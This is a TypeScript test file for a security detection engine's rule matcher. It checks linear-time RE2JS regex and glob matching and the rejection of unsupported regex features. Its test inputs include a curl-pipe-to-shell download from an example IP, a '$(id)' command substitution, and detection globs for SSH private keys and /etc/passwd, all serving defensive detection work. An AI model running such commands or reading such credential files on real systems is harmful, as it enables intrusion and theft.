import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { HangarDetector } from "./detector.js";
import { compileSources } from "./load.js";
import { compileGlob, compileRegex } from "./match.js";
import { testEvent } from "./testevents.js";

const META = `description "d" severity high mitre T1059 maturity stable`;
const KB4 = 4096;

/** A detector with one rule: exec whose arguments match `pattern`. */
function argsRule(pattern: string): HangarDetector {
  const src = `rule r { ${META}
  event exec where process.arguments regex '${pattern}'
  test "t" { at 0s exec { } expect no match } }`;
  const r = compileSources(new Map([["r.rules", src]]));
  assert.equal(r.ok, true, JSON.stringify(r.diagnostics));
  return new HangarDetector({ rules: r.rules, latenessMs: 0 });
}

let n = 0;
function fires(d: HangarDetector, args: string): boolean {
  const out = d.process(testEvent("exec", n, n++, new Map([["process.arguments", args]])));
  return (out?.alerts.length ?? 0) > 0;
}

describe("rule regexes (RE2JS, linear-time)", () => {
  it("the patterns that stalled V8's backtracking engine match correctly on 4 KB inputs", () => {
    const aStar = argsRule("a*a*a*b");
    assert.equal(fires(aStar, "a".repeat(KB4)), false, "no b: no match");
    assert.equal(fires(aStar, `${"a".repeat(KB4 - 1)}b`), true);
    assert.equal(fires(aStar, `${"a".repeat(KB4 / 2)}c${"a".repeat(KB4 / 2)}`), false);

    const curl = argsRule("curl.*\\s+.*\\|\\s*sh");
    const pad = " ".repeat(KB4 - 40);
    assert.equal(fires(curl, `curl http://203.0.113.9/x${pad}| sh`), true);
    assert.equal(fires(curl, `curl http://203.0.113.9/x${pad}| bash`), false, "| bash is not | sh");
    assert.equal(fires(curl, `curl${" |".repeat(KB4 / 2)}`), false);
    assert.equal(fires(curl, `wget http://203.0.113.9/x${pad}| sh`), false);
  });

  it("nested quantifiers RE2 runs in linear time are accepted ((a+)+, (a|aa)*)", () => {
    const d = argsRule("^(a+)+$");
    assert.equal(fires(d, "a".repeat(KB4)), true);
    assert.equal(fires(d, `${"a".repeat(KB4)}!`), false);
    assert.equal(compileRegex("(a|aa)*c").test(`${"a".repeat(KB4)}c`), true);
  });

  it("has no length cap on the input: a padded argument does not skip the rule", () => {
    const d = argsRule("\\$\\(");
    assert.equal(fires(d, `${"x".repeat(70_000)} $(id)`), true);
  });

  it("refuses back-references and lookaround with a reason and the place in the pattern", () => {
    assert.throws(() => compileRegex("(a)\\1"), /back-references are not supported \(at character 4\)/);
    assert.throws(() => compileRegex("(?P<x>a)\\k<x>"), /back-references are not supported/);
    assert.throws(
      () => compileRegex("a(?=b)"),
      /lookahead and lookbehind are not supported \(at character 2\)/,
    );
    assert.throws(() => compileRegex("(?<=a)b"), /lookahead and lookbehind/);
    assert.throws(() => compileRegex("(?<!a)b"), /lookahead and lookbehind/);
    assert.throws(() => compileRegex("(a"), /not in the RE2 syntax: missing closing \)/);
    assert.throws(() => compileRegex("x".repeat(1025)), /longer than 1024 characters/);
    // Escaped, these are plain characters: accepted.
    assert.equal(compileRegex("\\\\1").test("\\1"), true);
    assert.equal(compileRegex("\\(\\?=").test("(?="), true);
  });

  it("globs compile to RE2JS too: ** across elements, * within one", () => {
    const g = compileGlob("/home/*/.ssh/id_*");
    assert.equal(g.test("/home/ana/.ssh/id_rsa"), true);
    assert.equal(g.test("/home/ana/x/.ssh/id_rsa"), false);
    const deep = compileGlob("/**a**a**a**b");
    assert.equal(deep.test(`/${"a/".repeat(KB4)}`), false);
    assert.equal(deep.test(`/${"a/".repeat(KB4)}b`), true);
    assert.equal(compileGlob("/etc/[!a]*").test("/etc/passwd"), true);
    assert.equal(compileGlob("/etc/[!a]*").test("/etc/alternatives"), false);
  });
});
